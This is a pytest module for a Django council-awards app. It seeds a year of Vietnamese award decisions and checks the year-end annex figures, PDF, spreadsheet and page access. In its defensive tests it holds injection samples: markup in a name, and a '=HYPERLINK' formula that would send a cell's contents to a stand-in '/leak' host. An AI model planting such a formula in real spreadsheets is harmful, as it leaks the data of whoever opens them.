"""The year-end statistics annex, against a seeded year whose counts are known.

The year 2023 of the town council, built through the services as the office
would: three units' dossiers accepted; a first session whose decision (01) the
office registers, and whose lines for the district go up in a proposal the
district decides on paper (one collective and one individual awarded, one
individual not); a second session with its own decision (02) and a proposal to
the province still pending; a third decision (03) registered and then revoked,
whose awards must not count anywhere.  Every figure is checked in the
dataclass, in the PDF's text (pdfplumber, row by row in the tables) and in the
spreadsheet read back with openpyxl.

``YEAREND_PDF_OUT=/path/annex.pdf`` keeps the seeded annex (docs/samples is
rendered from it)."""

from __future__ import annotations

import datetime as dt
import io
import os
from decimal import Decimal
from typing import Any

import pdfplumber
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from conftest import pdf_upload
from councils.models import CouncilLevel, UnitKind, UnitMembership
from decisions.models import (
    AgendaItem,
    AttendanceState,
    Choice,
    Decision,
    DecisionLine,
    DecisionStatus,
    Honour,
    SignerCapacity,
)
from decisions.services import ballot_box as bb
from decisions.services import decisions as ds
from decisions.services import proposals as ps
from decisions.services import sessions as cs
from decisions.yearend import yearend_figures
from nominations import services as ns
from nominations.models import AwardKind, BaseSalary, NominationLine, Round, RoundAwardType
from printing.data import Breakdown, FigureRow, SubjectRow, SummaryRow, Tally, YearEndFigures
from printing.fonts import printable
from printing.yearend import build_yearend_pdf, build_yearend_xlsx
from tests import factories
from workflows import services as ws

pytestmark = pytest.mark.django_db

YEAR = 2023
TODAY = dt.date(2023, 12, 20)
UNIT_A = "Tiểu khu Trang Các"
UNIT_B = "Trường Mầm non thị trấn"
UNIT_C = "Trạm Y tế thị trấn"
DISTRICT_GK = "Giấy khen của Chủ tịch UBND huyện"
PROVINCE_BK = "Bằng khen của Chủ tịch UBND tỉnh"


def individual(name: str, position: str = "") -> ns.NomineeData:
    return ns.NomineeData(kind="individual", full_name=name, position=position)


def collective(name: str) -> ns.NomineeData:
    return ns.NomineeData(kind="collective", collective_name=name)


def household(head: str) -> ns.NomineeData:
    return ns.NomineeData(kind="household", household_head=head, household_address=UNIT_A)


def accepted_dossier(world: Any, unit: Any, user: Any, lines: list[tuple[Any, ns.NomineeData, str, str]]) -> Any:
    """A unit's dossier with these (award, nominee, method, subject) lines, submitted and accepted."""
    dossier = ws.dossier_create(user=user, unit=unit, round=world.round, title=f"Đề nghị khen thưởng năm {YEAR}")
    for award, nominee, method, subject in lines:
        ns.line_add(
            actor=dossier.created_by,
            nomination=dossier,
            award_type=award,
            nominee=nominee,
            achievement=f"Hoàn thành xuất sắc nhiệm vụ năm {YEAR}",
            method=method,
            subject_category=subject,
        )
    for kind in sorted({kind for award, *_rest in lines for kind in award.required_documents}):
        ns.attachment_add(nomination=dossier, upload=pdf_upload(f"{kind}.pdf"), kind=kind, actor=user)
    ws.dossier_submit(user=user, nomination=dossier)
    ws.dossier_review(user=world.secretariat, nomination=dossier, accept=True)
    return dossier


def vote_decide_register(world: Any, signed_on: dt.date) -> Any:
    """A session on every accepted line not yet voted on: both voting members agree on all;
    the chairman approves all; the office registers the decision.  Returns the session."""
    session = cs.session_create(
        actor=world.secretariat,
        round=world.round,
        held_at=timezone.now(),
        place="Hội trường UBND thị trấn",
        chair=world.chairman,
        secretary=world.secretariat,
    )
    voters = (world.chairman, world.member)
    cs.attendance_record(
        actor=world.secretariat, session=session, states={voter.pk: AttendanceState.PRESENT for voter in voters}
    )
    session = cs.session_voting_open(actor=world.secretariat, session=session)
    items = list(AgendaItem.objects.filter(session=session).values_list("pk", flat=True))
    for voter in voters:
        bb.ballot_cast(member=voter, session=session, choices=dict.fromkeys(items, Choice.AGREE))
    session = bb.session_close(actor=world.secretariat, session=session).session
    decision = ds.session_decide(chairman=world.chairman, session=session, approve_item_ids=items)
    assert decision is not None
    ds.decision_register(
        actor=world.secretariat,
        decision=decision,
        signed_on=signed_on,
        signer_name="Cù Văn Hân",
        signer_capacity=SignerCapacity.CHAIRMAN,
        without_money=True,
    )
    return session


@pytest.fixture
def seeded(world: Any) -> Any:
    """The town's 2023 (see the module's docstring); returns the world."""
    council = world.council
    council.parent = factories.CouncilFactory(
        name="Hội đồng Thi đua – Khen thưởng huyện Hà Trung", level=CouncilLevel.DISTRICT
    )
    council.save()
    Round.objects.filter(pk=world.round.pk).update(year=YEAR)
    world.round.refresh_from_db()
    BaseSalary.objects.create(amount=1_800_000, valid_from=dt.date(2023, 7, 1))
    unit_c = factories.UnitFactory(council=council, name=UNIT_C, kind=UnitKind.HEALTH)
    unit_c_user = factories.UserFactory(username="tram_y_te")
    UnitMembership.objects.create(unit=unit_c, user=unit_c_user)
    ttldtt = factories.AwardTypeFactory(
        council=council, code="TTLDTT", name_vi="Tập thể lao động tiên tiến", for_individual=False, for_collective=True
    )
    district_gk = factories.AwardTypeFactory(
        council=council,
        code="GKH",
        name_vi=DISTRICT_GK,
        kind=AwardKind.COMMENDATION,
        for_collective=True,
        deciding_level=CouncilLevel.DISTRICT,
    )
    province_bk = factories.AwardTypeFactory(
        council=council,
        code="BKT",
        name_vi=PROVINCE_BK,
        kind=AwardKind.COMMENDATION,
        for_collective=True,
        deciding_level=CouncilLevel.PROVINCE,
    )
    for award in (ttldtt, district_gk, province_bk):
        RoundAwardType.objects.create(round=world.round, award_type=award)
    ldtt, gk, gdvh = world.ldtt, world.gk, world.gdvh

    # unit A: four cultural families, two collectives (one an enterprise) and two advanced workers
    accepted_dossier(
        world,
        world.unit_a,
        world.unit_a_user,
        [
            *[
                (gdvh, household(head), "regular", "household")
                for head in ("Nguyễn Văn An", "Lê Thị Bình", "Trần Đức Chi", "Phạm Thị Dung")
            ],
            (gk, collective("Chi hội Phụ nữ tiểu khu Trang Các"), "thematic", "collective"),
            (gk, collective("Hợp tác xã dịch vụ Trang Các"), "thematic", "enterprise"),
            (ldtt, individual("Lê Thị Hường"), "regular", "direct_worker"),
            (ldtt, individual("Đỗ Văn Khánh"), "regular", "direct_worker"),
        ],
    )
    # unit B: the school's titles, an ad hoc certificate, and three lines for the district
    accepted_dossier(
        world,
        world.unit_b,
        world.unit_b_user,
        [
            (ldtt, individual("Vũ Thị Lan", "Giáo viên"), "regular", "direct_worker"),
            (ldtt, individual("Hoàng Minh Nga", "Giáo viên"), "regular", "direct_worker"),
            (ldtt, individual("Nguyễn Thị Thảo", "Hiệu trưởng"), "regular", "leader_other"),
            (gk, individual("Phạm Thị Quân", "Giáo viên"), "ad_hoc", "direct_worker"),
            (ttldtt, collective("Tổ chuyên môn Mẫu giáo lớn"), "regular", "collective"),
            (district_gk, individual("Trần Thị Minh", "Phó hiệu trưởng"), "regular", "leader_other"),
            (district_gk, individual("Đỗ Thị Ánh", "Giáo viên"), "regular", "direct_worker"),
            (district_gk, collective("Trường Mầm non thị trấn Hà Trung"), "thematic", "collective"),
        ],
    )
    first = vote_decide_register(world, dt.date(2023, 12, 15))
    proposal = ps.proposal_create(actor=world.secretariat, session=first)
    lines = {str(row.line.nominee): row.line_id for row in proposal.lines.select_related("line__person")}
    ps.proposal_record_higher_decision(
        actor=world.secretariat,
        proposal=proposal,
        reference="1250/QĐ-UBND",
        decided_on=dt.date(2024, 1, 10),
        awarded_line_ids=[lines["Trần Thị Minh"], lines["Trường Mầm non thị trấn Hà Trung"]],
    )

    # unit C: an advanced worker decided here, two lines for the province (still pending)
    accepted_dossier(
        world,
        unit_c,
        unit_c_user,
        [
            (ldtt, individual("Lê Văn Phúc", "Y sĩ"), "regular", "direct_worker"),
            (province_bk, collective("Trạm Y tế thị trấn Hà Trung"), "ad_hoc", "collective"),
            (province_bk, individual("Nguyễn Văn Hà", "Bác sĩ"), "dedication", "direct_worker"),
        ],
    )
    second = vote_decide_register(world, dt.date(2023, 12, 22))
    ps.proposal_create(actor=world.secretariat, session=second)

    # unit C again: a decision typed by the office, registered, then revoked
    revoked_dossier = accepted_dossier(
        world,
        unit_c,
        unit_c_user,
        [
            (ldtt, individual("Trịnh Văn Dũng"), "regular", "direct_worker"),
            (ldtt, individual("Mai Thị Giang"), "regular", "direct_worker"),
            (gk, household("Lò Văn Hải"), "regular", "household"),
        ],
    )
    revoked = Decision.objects.create(
        council=council,
        round=world.round,
        year=YEAR,
        subject="Về việc khen thưởng (nhầm đối tượng)",
        created_by=world.chairman,
    )
    for position, line in enumerate(NominationLine.objects.filter(nomination=revoked_dossier), start=1):
        DecisionLine.objects.create(decision=revoked, line=line, position=position, achievement=line.achievement)
    ds.decision_register(
        actor=world.secretariat,
        decision=revoked,
        signed_on=dt.date(2023, 12, 27),
        signer_name="Cù Văn Hân",
        signer_capacity=SignerCapacity.CHAIRMAN,
        without_money=True,
    )
    ds.decision_revoke(
        actor=world.chairman,
        decision=revoked,
        reason="Quyết định nhầm đối tượng",
        revoked_by_number="25/QĐ-UBND",
        revoked_by_date=None,
    )

    # what the seed must be, before any figure is read
    assert Decision.objects.filter(council=council, status=DecisionStatus.REGISTERED).count() == 2
    assert Decision.objects.filter(council=council, status=DecisionStatus.REVOKED).count() == 1
    assert Honour.objects.filter(council=council).count() == 16
    return world


# --- What the year must count ------------------------------------------------------------

# (collectives, households, individuals, sum) awarded, then proposed
BY_AWARD_TYPE = {
    "Gia đình văn hoá": (0, 4, 0, 4, 0, 0, 0, 0),
    "Giấy khen": (2, 0, 1, 3, 0, 0, 0, 0),
    "Lao động tiên tiến": (0, 0, 6, 6, 0, 0, 0, 0),
    "Tập thể lao động tiên tiến": (1, 0, 0, 1, 0, 0, 0, 0),
    DISTRICT_GK: (1, 0, 1, 2, 1, 0, 2, 3),
    PROVINCE_BK: (0, 0, 0, 0, 1, 0, 1, 2),
}
BY_UNIT = {
    UNIT_A: (2, 4, 2, 8, 0, 0, 0, 0),
    UNIT_B: (2, 0, 5, 7, 1, 0, 2, 3),
    UNIT_C: (0, 0, 1, 1, 1, 0, 1, 2),
}
BY_LEVEL = {
    "Cấp xã, phường, thị trấn (thẩm quyền của Hội đồng)": (3, 4, 7, 14, 0, 0, 0, 0),
    "Cấp huyện (cấp trên)": (1, 0, 1, 2, 1, 0, 2, 3),
    "Cấp tỉnh (cấp trên)": (0, 0, 0, 0, 1, 0, 1, 2),
    "Cấp Trung ương (cấp trên)": (0, 0, 0, 0, 0, 0, 0, 0),
}
BY_METHOD = {
    "Thường xuyên": (1, 4, 7, 12, 0, 0, 2, 2),
    "Chuyên đề": (3, 0, 0, 3, 1, 0, 0, 1),
    "Đột xuất": (0, 0, 1, 1, 1, 0, 0, 1),
    "Đối ngoại": (0, 0, 0, 0, 0, 0, 0, 0),
    "Cống hiến": (0, 0, 0, 0, 0, 0, 1, 1),
    "Niên hạn": (0, 0, 0, 0, 0, 0, 0, 0),
    "Kháng chiến": (0, 0, 0, 0, 0, 0, 0, 0),
}
TOTAL = (4, 4, 8, 16, 2, 0, 3, 5)
SUMMARY = {
    "1. Được khen thưởng": (4, 4, 8, 16),
    "Theo thẩm quyền của Hội đồng": (3, 4, 7, 14),
    "Do cấp trên khen thưởng": (1, 0, 1, 2),
    "2. Đề nghị cấp trên khen thưởng": (2, 0, 3, 5),
    "Cấp trên đã khen thưởng": (1, 0, 1, 2),
    "Cấp trên không khen thưởng": (0, 0, 1, 1),
    "Chờ cấp trên xét": (1, 0, 1, 2),
}
DIRECT = "Người trực tiếp lao động, công tác (công nhân, nông dân, giáo viên, chiến sĩ…)"
# awarded, its share, proposed, its share
BY_SUBJECT = {
    "1. Tập thể": (4, "", 2, ""),
    "Trong đó: tập thể là doanh nghiệp": (1, "25,00%", 0, "0,00%"),
    "2. Hộ gia đình": (4, "", 0, ""),
    "3. Cá nhân": (8, "", 3, ""),
    "Lãnh đạo cấp bộ, tỉnh trở lên": (0, "0,00%", 0, "0,00%"),
    "Lãnh đạo cấp sở, ngành": (0, "0,00%", 0, "0,00%"),
    "Doanh nhân": (0, "0,00%", 0, "0,00%"),
    "Lãnh đạo khác từ phó trưởng phòng trở lên": (2, "25,00%", 1, "33,33%"),
    DIRECT: (6, "75,00%", 2, "66,67%"),
}
TABLES = {"award_type": BY_AWARD_TYPE, "unit": BY_UNIT, "level": BY_LEVEL, "method": BY_METHOD}


def figures_of(breakdown: Breakdown) -> dict[str, tuple[int, ...]]:
    return {row.label: row.awarded.cells() + row.proposed.cells() for row in breakdown.rows}


def test_the_figures_of_the_seeded_year(seeded: Any, django_assert_max_num_queries: Any) -> None:
    council = seeded.council
    with django_assert_max_num_queries(2):  # one grouped query for the awards, one for the proposals
        figures = yearend_figures(council, YEAR, today=TODAY)
    assert figures.year == YEAR
    assert figures.awarded == Tally(collectives=4, households=4, individuals=8)
    assert figures.awarded_own == Tally(3, 4, 7)
    assert figures.awarded_higher == Tally(1, 0, 1)
    assert figures.proposed == Tally(2, 0, 3)
    assert figures.proposed_awarded == Tally(1, 0, 1)
    assert figures.proposed_not_awarded == Tally(0, 0, 1)
    assert figures.proposed_pending == Tally(1, 0, 1)
    assert (figures.direct_workers_awarded, figures.direct_workers_proposed) == (6, 2)
    assert {row.label: row.tally.cells() for row in figures.summary} == SUMMARY
    for breakdown in figures.breakdowns:
        assert figures_of(breakdown) == TABLES[breakdown.key], breakdown.key
        assert list(figures_of(breakdown)) == list(TABLES[breakdown.key]), f"{breakdown.key}: order"
        total = breakdown.total
        assert total.awarded.cells() + total.proposed.cells() == TOTAL, breakdown.key
    subjects = {
        row.label: (row.awarded, row.awarded_share, row.proposed, row.proposed_share) for row in figures.by_subject
    }
    assert subjects == BY_SUBJECT
    assert [row.label for row in figures.by_subject if row.emphasis] == [DIRECT]
    assert figures.parent_lines == ("ỦY BAN NHÂN DÂN", "THỊ TRẤN HÀ TRUNG")
    assert figures.place_date == "Hà Trung, ngày     tháng 12 năm 2023"


def test_the_revoked_decision_counts_nowhere(seeded: Any) -> None:
    """Its three awards left the registry; even a registry row pointing at it (as an
    import might leave) is not counted."""
    revoked = Decision.objects.get(status=DecisionStatus.REVOKED)
    line = revoked.lines.select_related("line").first().line
    Honour.objects.create(
        council=seeded.council,
        award_type=line.award_type,
        year=YEAR,
        person=line.person,
        decision=revoked,
        source_line=line,
    )
    figures = yearend_figures(seeded.council, YEAR)
    assert figures.awarded.total == 16
    assert figures_of(figures.by_unit)[UNIT_C] == BY_UNIT[UNIT_C]


def test_other_years_and_councils_are_apart(seeded: Any) -> None:
    for year in (YEAR - 1, YEAR + 1):
        figures = yearend_figures(seeded.council, year)
        assert figures.is_empty
        assert figures.awarded == figures.proposed == Tally()
    assert yearend_figures(seeded.other_council, YEAR).is_empty


# --- The PDF ----------------------------------------------------------------------------------


def pdf_rows(content: bytes) -> tuple[str, dict[str, list[str]], list[Any]]:
    """The whole text, and every table row keyed by its name cell (wrapped names joined)."""
    rows: dict[str, list[str]] = {}
    texts = []
    with pdfplumber.open(io.BytesIO(content)) as pdf:
        pages = list(pdf.pages)
        for page in pages:
            texts.append(page.extract_text() or "")
            for table in page.extract_tables():
                for row in table:
                    cells = [" ".join((cell or "").split()) for cell in row]
                    # breakdown rows start with their number; the others with their name
                    name_at = 1 if len(cells) == 10 else 0
                    rows[cells[name_at]] = cells[name_at + 1 :]
        sizes = [(round(page.width / 72 * 25.4), round(page.height / 72 * 25.4)) for page in pages]
    return "\n".join(texts), rows, sizes


def test_the_pdf_prints_every_figure_in_its_row(seeded: Any) -> None:
    figures = yearend_figures(seeded.council, YEAR, today=TODAY)
    content = build_yearend_pdf(figures)
    if os.environ.get("YEAREND_PDF_OUT"):
        with open(os.environ["YEAREND_PDF_OUT"], "wb") as out:
            out.write(content)
    text, rows, sizes = pdf_rows(content)
    assert content.startswith(b"%PDF")
    assert set(sizes) == {(210, 297)}  # A4 portrait
    flat = " ".join(text.split())
    for expected in (
        "ỦY BAN NHÂN DÂN",
        "THỊ TRẤN HÀ TRUNG",
        "HỘI ĐỒNG THI ĐUA – KHEN THƯỞNG",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "Hà Trung, ngày tháng 12 năm 2023",
        "PHỤ LỤC",
        "SỐ LIỆU CÔNG TÁC KHEN THƯỞNG NĂM 2023",
        "(Kèm theo Báo cáo số /BC-HĐTĐKT ngày tháng 12 năm 2023 của Hội đồng Thi đua – Khen thưởng thị trấn Hà Trung)",
        "II. THEO HÌNH THỨC KHEN THƯỞNG",
        "VI. THEO ĐỐI TƯỢNG KHEN THƯỞNG",
    ):
        assert expected in flat, expected
    for table in TABLES.values():
        for label, numbers in table.items():
            assert rows[label] == [str(n) for n in numbers], label
    assert rows["Tổng cộng"] == [str(n) for n in TOTAL]
    for label, numbers in SUMMARY.items():
        assert rows[label] == [str(n) for n in numbers], label
    for label, (awarded, awarded_share, proposed, proposed_share) in BY_SUBJECT.items():
        assert rows[label] == [str(awarded), awarded_share, str(proposed), proposed_share], label


def test_the_pdf_embeds_its_font(seeded: Any) -> None:
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(build_yearend_pdf(yearend_figures(seeded.council, YEAR))))
    fonts = set()
    for page in reader.pages:
        for font in page["/Resources"]["/Font"].values():
            font = font.get_object()
            descriptor = (
                font["/DescendantFonts"][0].get_object()["/FontDescriptor"]
                if "/DescendantFonts" in font
                else font.get("/FontDescriptor")
            )
            assert descriptor is not None, font["/BaseFont"]
            assert "/FontFile2" in descriptor.get_object(), font["/BaseFont"]
            fonts.add(str(font["/BaseFont"]))
    assert fonts, "no font"


# --- The spreadsheet ---------------------------------------------------------------------------


def sheet_rows(sheet: Any, label_column: int) -> dict[str, list[Any]]:
    rows = {}
    for row in sheet.iter_rows(min_row=1, values_only=True):
        label = row[label_column - 1]
        if isinstance(label, str):
            rows[label.strip()] = list(row[label_column:])
    return rows


def test_the_spreadsheet_holds_the_same_figures_as_numbers(seeded: Any) -> None:
    figures = yearend_figures(seeded.council, YEAR, today=TODAY)
    workbook = load_workbook(io.BytesIO(build_yearend_xlsx(figures)))
    assert workbook.sheetnames == ["Tổng hợp", "Hình thức", "Đơn vị", "Cấp khen thưởng", "Phương thức", "Đối tượng"]
    for name, key in (
        ("Hình thức", "award_type"),
        ("Đơn vị", "unit"),
        ("Cấp khen thưởng", "level"),
        ("Phương thức", "method"),
    ):
        sheet = workbook[name]
        assert sheet["A1"].value == "SỐ LIỆU CÔNG TÁC KHEN THƯỞNG NĂM 2023"
        assert sheet["A5"].value == "TT"
        assert sheet["A5"].font.b
        assert sheet["C6"].font.b
        assert sheet["C6"].value == "Tập thể"
        assert sheet.column_dimensions["B"].width == 42
        rows = sheet_rows(sheet, 2)
        for label, numbers in TABLES[key].items():
            values = rows[label][:8]
            assert values == list(numbers), (name, label)
            assert all(type(value) is int for value in values), (name, label)
        assert rows["Tổng cộng"][:8] == list(TOTAL)
    summary = sheet_rows(workbook["Tổng hợp"], 1)
    for label, numbers in SUMMARY.items():
        assert summary[label][:4] == list(numbers), label
    subjects = sheet_rows(workbook["Đối tượng"], 1)
    for label, (awarded, awarded_share, proposed, proposed_share) in BY_SUBJECT.items():
        values = subjects[label][:4]
        assert values[0] == awarded, label
        assert values[2] == proposed, label
        for value, share in ((values[1], awarded_share), (values[3], proposed_share)):
            if share:
                assert value == pytest.approx(float(Decimal(share.rstrip("%").replace(",", "."))) / 100, abs=5e-5)
            else:
                assert value is None


# --- Builders on their own: big numbers, hostile text, an empty year ----------------------------


def synthetic(unit_label: str = "Tiểu khu 1", households: int = 2900) -> YearEndFigures:
    tally = Tally(collectives=10, households=households, individuals=1234)
    row = FigureRow(key="1", label=unit_label, awarded=tally, proposed=Tally(individuals=15))
    breakdown = Breakdown(
        "unit",
        "III. THEO ĐƠN VỊ ĐỀ NGHỊ",
        "Đơn vị",
        (row,),
        FigureRow("total", "Tổng cộng", tally, Tally(individuals=15)),
    )
    return YearEndFigures(
        year=2023,
        council_name="Hội đồng Thi đua – Khen thưởng thị trấn Hà Trung",
        parent_lines=("ỦY BAN NHÂN DÂN", "THỊ TRẤN HÀ TRUNG"),
        body_lines=("HỘI ĐỒNG THI ĐUA – KHEN THƯỞNG",),
        place_date="Hà Trung, ngày     tháng 12 năm 2023",
        attached_to="(Kèm theo Báo cáo số      /BC-HĐTĐKT)",
        awarded=tally,
        awarded_own=tally,
        awarded_higher=Tally(),
        proposed=Tally(individuals=15),
        proposed_awarded=Tally(),
        proposed_not_awarded=Tally(),
        proposed_pending=Tally(individuals=15),
        direct_workers_awarded=1200,
        direct_workers_proposed=15,
        summary=(SummaryRow("awarded", "1. Được khen thưởng", tally),),
        summary_title="I. TỔNG HỢP",
        note="Ghi chú.",
        by_award_type=breakdown,
        by_unit=breakdown,
        by_level=breakdown,
        by_method=breakdown,
        by_subject=(SubjectRow("individual", "3. Cá nhân", 1234, 15),),
        subject_title="VI. THEO ĐỐI TƯỢNG KHEN THƯỞNG",
    )


def test_numbers_take_dots_between_thousands() -> None:
    _text, rows, _sizes = pdf_rows(build_yearend_pdf(synthetic()))
    assert rows["Tiểu khu 1"] == ["10", "2.900", "1.234", "4.144", "0", "0", "15", "15"]
    sheet = load_workbook(io.BytesIO(build_yearend_xlsx(synthetic())))["Đơn vị"]
    assert sheet_rows(sheet, 2)["Tiểu khu 1"][:4] == [10, 2900, 1234, 4144]


def test_markup_and_nfd_in_a_name_print_as_text() -> None:
    import unicodedata

    hostile = unicodedata.normalize("NFD", "Tổ <b>dân</b> & <font size=40>phố</font> Hường 😀")
    text, rows, _sizes = pdf_rows(build_yearend_pdf(synthetic(unit_label=hostile)))
    mark = printable("😀")
    assert mark in ("\N{REPLACEMENT CHARACTER}", "?")
    printed = [label for label in rows if label.startswith("Tổ ")]
    assert printed == [f"Tổ <b>dân</b> & <font size=40>phố</font> Hường {mark}"]


def test_a_name_that_looks_like_a_formula_stays_text_in_the_spreadsheet() -> None:
    """A unit or council named "=HYPERLINK(…)" must not become a live formula in the office's copy."""
    import dataclasses

    formula = '=HYPERLINK("http://127.0.0.1:9/leak?"&B7,"Tiểu khu 1")'
    figures = dataclasses.replace(synthetic(unit_label=formula), council_name="=1+1")
    workbook = load_workbook(io.BytesIO(build_yearend_xlsx(figures)))
    sheet = workbook["Đơn vị"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == formula]
    assert cells
    assert all(cell.data_type == "s" for cell in cells)
    assert sheet["A2"].value == "=1+1"
    assert sheet["A2"].data_type == "s"
    assert not [cell for ws in workbook for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


# --- The pages ---------------------------------------------------------------------------------


def client_for(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_page_and_downloads_for_the_secretariat(seeded: Any) -> None:
    client = client_for(seeded.secretariat)
    page = client.get(reverse("documents:yearend"), {"year": YEAR})
    assert page.status_code == 200
    body = page.content.decode()
    for name in (UNIT_A, UNIT_B, UNIT_C, DISTRICT_GK, PROVINCE_BK):
        assert name in body
    assert 'id="yearend-unit"' in body
    pdf = client.get(reverse("documents:yearend_pdf", kwargs={"year": YEAR}))
    assert pdf.status_code == 200
    assert pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    _text, rows, _sizes = pdf_rows(pdf.content)
    assert rows[UNIT_B] == [str(n) for n in BY_UNIT[UNIT_B]]
    xlsx = client.get(reverse("documents:yearend_xlsx", kwargs={"year": YEAR}))
    assert xlsx.status_code == 200
    assert sheet_rows(load_workbook(io.BytesIO(xlsx.content))["Đơn vị"], 2)[UNIT_C][:8] == list(BY_UNIT[UNIT_C])


@pytest.mark.parametrize("role", ["chairman", "admin"])
def test_the_chairman_and_the_admin_see_it_too(seeded: Any, role: str) -> None:
    response = client_for(getattr(seeded, role)).get(reverse("documents:yearend"), {"year": YEAR})
    assert response.status_code == 200
    assert UNIT_C in response.content.decode()


@pytest.mark.parametrize("role", ["unit_a_user", "member", "other_secretariat"])
def test_others_get_nothing(seeded: Any, role: str) -> None:
    client = client_for(getattr(seeded, role))
    council = f"?council={seeded.council.pk}"
    for url in (
        reverse("documents:yearend") + council,
        reverse("documents:yearend_pdf", kwargs={"year": YEAR}) + council,
        reverse("documents:yearend_xlsx", kwargs={"year": YEAR}) + council,
    ):
        response = client.get(url)
        assert response.status_code == 404, (role, url)
        assert UNIT_C not in response.content.decode(errors="replace")


def test_a_year_without_awards_gives_zeros(world: Any) -> None:
    client = client_for(world.secretariat)
    page = client.get(reverse("documents:yearend"), {"year": 2022})
    assert page.status_code == 200
    assert 'id="yearend-empty"' in page.content.decode()
    _text, rows, _sizes = pdf_rows(client.get(reverse("documents:yearend_pdf", kwargs={"year": 2022})).content)
    assert rows["Tổng cộng"] == ["0"] * 8
    assert rows["1. Được khen thưởng"] == ["0"] * 4
    sheet = load_workbook(io.BytesIO(client.get(reverse("documents:yearend_xlsx", kwargs={"year": 2022})).content))
    assert sheet_rows(sheet["Phương thức"], 2)["Thường xuyên"][:8] == [0] * 8


def test_an_invalid_year_is_refused_clearly(world: Any) -> None:
    client = client_for(world.secretariat)
    for year in (1999, timezone.localdate().year + 2):
        assert client.get(reverse("documents:yearend_pdf", kwargs={"year": year})).status_code == 404
        assert client.get(reverse("documents:yearend_xlsx", kwargs={"year": year})).status_code == 404
    for value in ("1999", "abc"):
        page = client.get(reverse("documents:yearend"), {"year": value})
        assert page.status_code == 200
        body = page.content.decode()
        assert 'class="field-error"' in body
        assert 'id="yearend-summary"' not in body


def test_the_english_page_names_the_award_types_in_english_and_the_papers_stay_vietnamese(seeded: Any) -> None:
    from django.conf import settings

    from nominations.models import AwardType

    assert AwardType.objects.filter(name_vi=DISTRICT_GK).update(name_en="District People's Committee commendation")
    client = client_for(seeded.secretariat)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"

    body = client.get(reverse("documents:yearend"), {"year": YEAR}).content.decode()

    table = body[body.index('id="yearend-award_type"') :]
    table = table[: table.index("</table>")]
    assert "District People&#x27;s Committee commendation" in table
    assert DISTRICT_GK not in table
    assert PROVINCE_BK in table  # no English name: the Vietnamese one
    _text, rows, _sizes = pdf_rows(client.get(reverse("documents:yearend_pdf", kwargs={"year": YEAR})).content)
    assert DISTRICT_GK in rows
    sheet = load_workbook(io.BytesIO(client.get(reverse("documents:yearend_xlsx", kwargs={"year": YEAR})).content))
    cells = [str(cell.value) for page in sheet.worksheets for row in page.iter_rows() for cell in row if cell.value]
    assert DISTRICT_GK in cells
    assert not any("District" in cell for cell in cells)


def test_the_english_summary_heading_is_not_a_notice(seeded: Any) -> None:
    """The summary's first heading ("Nội dung": what each row counts) has its own msgid
    context: the notices' list, where the same word is "Notice", is another sense."""
    from django.conf import settings

    client = client_for(seeded.secretariat)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    body = client.get(reverse("documents:yearend"), {"year": YEAR}).content.decode()
    summary = body[body.index('id="yearend-summary"') :]
    heading = summary[summary.index("<th>") + 4 : summary.index("</th>")]
    assert heading != "Notice"
    assert "Notice" not in summary[: summary.index("</thead>")]


def test_the_page_draws_each_table_as_a_chart(seeded: Any) -> None:
    """Each table has its chart: one bar per row, awarded and proposed up stacked, the totals
    the seeded round gives (BY_UNIT: awarded 8, 7, 1; proposed 0, 3, 2)."""
    import re

    import defusedxml.ElementTree as ET

    body = client_for(seeded.secretariat).get(reverse("documents:yearend"), {"year": YEAR}).content.decode()
    found = re.search(r'<div class="chart-wrap" id="chart-unit">(.*?)</div>', body, re.S)
    assert found, "the units' table has its chart"
    svg = ET.fromstring(found.group(1))
    titles = [
        title.text
        for group in svg.iter("{http://www.w3.org/2000/svg}g")
        for title in group.findall("{http://www.w3.org/2000/svg}title")
    ]
    assert f"{UNIT_A}: Được khen thưởng 8, Đề nghị cấp trên 0" in titles
    assert f"{UNIT_B}: Được khen thưởng 7, Đề nghị cấp trên 3" in titles
    assert f"{UNIT_C}: Được khen thưởng 1, Đề nghị cấp trên 2" in titles
    assert 'id="chart-subject"' in body
    assert body.count('<svg xmlns="http://www.w3.org/2000/svg" class="chart"') >= 4
